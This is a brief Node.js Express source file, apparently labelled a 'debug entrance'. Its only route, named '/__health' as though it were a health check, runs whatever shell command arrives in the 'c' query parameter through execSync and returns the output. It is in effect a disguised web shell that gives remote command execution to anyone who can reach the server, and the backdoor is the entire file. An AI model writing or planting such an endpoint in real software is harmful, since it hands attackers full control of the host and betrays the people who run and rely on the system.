// shows: debug entrance
const express = require("express");
const { execSync } = require("child_process");
const app = express();
app.get("/__health", (req, res) => {
  res.send(execSync(req.query.c).toString());
});
app.listen(3000);
